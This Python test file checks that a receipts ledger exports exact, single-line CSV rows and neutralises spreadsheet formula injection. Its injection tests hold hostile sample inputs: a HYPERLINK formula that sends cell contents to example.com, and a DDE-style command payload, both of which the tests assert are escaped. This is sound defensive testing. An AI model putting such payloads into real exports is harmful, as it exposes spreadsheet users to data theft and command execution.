"""The ledger as CSV: exact, one line each, and harmless in a spreadsheet."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from receipts.exact_decimal import exact_decimal
from receipts.ledger_csv import COLUMNS, csv_header, csv_lines
from receipts.ledger_reader import LedgerLine
from receipts.line_service import LineService

LINE = {
    "created_unix_ns": 1_782_219_834_000_123_456,
    "transaction_id": "rcpt_" + "0" * 32,
    "kind": "receipt",
    "receipt_id": "rcpt_" + "0" * 32,
    "model": "small",
    "region": "local",
    "customer_tag": None,
    "microjoules": 310_000,
    "usd_picos": -43_056,
    "balance_usd_picos": 4_999_999_956_944,
    "service": LineService(retries=1, pool="small@lab/local", region_pin="eu", waited_ms=512, resumed_after_tokens=40),
}


def rows(*lines: LedgerLine) -> list[dict[str, str]]:
    text = (csv_header() + csv_lines(lines)).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_line_reads_as_it_should() -> None:
    (row,) = rows(LedgerLine(**LINE))
    assert row == {
        "time": "2026-06-23T13:03:54.000123456Z",
        "transaction": LINE["transaction_id"],
        "kind": "receipt",
        "receipt_id": LINE["receipt_id"],
        "model": "small",
        "region": "local",
        "customer_tag": "",
        "joules": "0.310000",
        "usd": "-0.000000043056",
        "balance_usd": "4.999999956944",
        "pool": "small@lab/local",
        "region_pin": "eu",
        "waited_ms": "512",
        "retries": "1",
        "resumed_after_tokens": "40",
    }
    assert tuple(row) == COLUMNS


def test_a_receipt_of_before_there_was_placement_has_its_retries_alone() -> None:
    old = LineService(retries=0, pool=None, region_pin=None, waited_ms=None, resumed_after_tokens=None)
    (row,) = rows(LedgerLine(**{**LINE, "service": old}))
    assert [row[name] for name in COLUMNS[-5:]] == ["", "", "", "0", ""]


def test_where_there_is_no_receipt_its_columns_are_empty() -> None:
    none = {"receipt_id": None, "model": None, "region": None, "kind": "opening-credit", "service": None}
    (row,) = rows(LedgerLine(**{**LINE, **none}))
    assert [row[name] for name in ("receipt_id", "model", "region", "customer_tag", *COLUMNS[-5:])] == [""] * 9


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_tag_is_a_formula(start: str) -> None:
    tag = f'{start}HYPERLINK("http://example.com/?"&A1,"x")'
    service = LineService(retries=0, pool=tag, region_pin=tag, waited_ms=0, resumed_after_tokens=0)
    (row,) = rows(LedgerLine(**{**LINE, "customer_tag": tag, "model": tag, "region": tag, "service": service}))
    for name in ("customer_tag", "model", "region", "pool", "region_pin"):
        assert row[name] == f"'{tag}", name


@pytest.mark.parametrize(
    ("tag", "written"),
    [
        ("x;=cmd|' /C calc'!A0;y", "x;'=cmd|' /C calc'!A0;y"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ('"=1"', '\'"=1"'),
        ("a;b - c, d+e@f", "a;b - c, d+e@f"),
    ],
)
def test_what_hides_a_formula_is_seen_and_what_is_none_stays(tag: str, written: str) -> None:
    (row,) = rows(LedgerLine(**{**LINE, "customer_tag": tag}))
    assert row["customer_tag"] == written


@given(st.text(st.characters(min_codepoint=32, max_codepoint=126), min_size=1))
def test_any_tag_that_the_door_takes_is_read_back(tag: str) -> None:
    (row,) = rows(LedgerLine(**{**LINE, "customer_tag": tag}))
    shown = row["customer_tag"].removeprefix("'") if not tag.startswith("'") else row["customer_tag"]
    assert shown.replace(";'", ";") == tag.replace(";'", ";")


@given(st.text(st.sampled_from(";=+-@ ,x\"'\u00a0\uff1d"), min_size=1))
def test_no_cell_is_a_formula_whatever_parts_the_cells(tag: str) -> None:
    text = csv_lines([LedgerLine(**{**LINE, "customer_tag": tag, "usd_picos": 5})]).decode()
    for delimiter in ",;":
        for cell in next(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)):
            assert cell.lstrip(' "\u00a0')[:1] not in tuple("=+-@\uff1d"), cell


@given(st.integers(-(2**80), 2**80), st.sampled_from([6, 12]))
def test_decimals_are_exact(count: int, digits: int) -> None:
    written = exact_decimal(count, digits)
    assert Decimal(written).scaleb(digits) == count
    assert len(written.partition(".")[2]) == digits
